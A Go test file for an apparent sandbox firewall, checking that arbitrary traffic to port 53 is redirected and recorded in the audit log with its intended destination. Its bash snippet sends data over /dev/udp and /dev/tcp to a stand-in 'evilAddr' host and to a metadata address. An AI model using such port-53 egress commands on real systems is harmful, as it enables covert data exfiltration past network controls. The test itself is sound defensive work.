package main

import (
	"slices"
	"testing"

	"github.com/org/claude-sandbox/firewall/audit"
	"github.com/org/claude-sandbox/internal/test/testenv"
)

// Attack: what is no DNS, to port 53 of anybody. It is led to our resolver, and the
// record still says for whom it was meant.
func TestAttackAnythingToPort53IsRecordedWithItsPlace(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, openPolicy)
	bash := testenv.Program(t, "bash")
	b.run(bash, "-c", `
		echo anything at all > /dev/udp/`+metadata+`/53
		echo anything at all > /dev/udp/`+evilAddr+`/53
		echo anything at all > /dev/udp/`+evilAddr6+`/53
		exec 3<>/dev/tcp/`+evilAddr+`/53
		printf '\000\005hello' >&3
		read -t 5 -u 3
		true
	`).mustExit(t, 0)
	var got []string
	for _, r := range b.records() {
		if r.Layer == audit.LayerDNS && r.Name == audit.NoQuestion && r.Port == 53 {
			got = append(got, r.Dst+"/"+string(r.Proto))
		}
	}
	slices.Sort(got)
	want := []string{metadata + "/udp", evilAddr6 + "/udp", evilAddr + "/tcp", evilAddr + "/udp"}
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("recorded %q, want %q", got, want)
	}
}
